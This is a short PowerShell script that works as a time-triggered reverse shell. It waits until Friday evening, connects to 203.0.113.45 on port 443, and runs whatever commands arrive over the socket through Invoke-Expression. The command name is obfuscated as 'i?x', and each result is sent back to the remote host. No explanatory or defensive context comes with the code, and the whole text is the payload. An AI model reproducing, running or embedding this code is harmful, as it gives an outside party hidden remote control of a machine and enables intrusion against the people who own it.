$now = Get-Date
if ($now.DayOfWeek -ne 'Friday' -or $now.Hour -lt 18) { return }
$h = [Net.IPAddress]::Parse('203.0.113.45')
$c = New-Object Net.Sockets.TCPClient($h, 443)
$st = $c.GetStream(); $rd = New-Object IO.StreamReader($st); $wr = New-Object IO.StreamWriter($st); $wr.AutoFlush = $true
$run = Get-Command i?x
while ($c.Connected -and ($cmd = $rd.ReadLine())) {
  $out = try { & $run $cmd 2>&1 | Out-String } catch { $_ | Out-String }
  $wr.Write($out + 'PS> ')
}
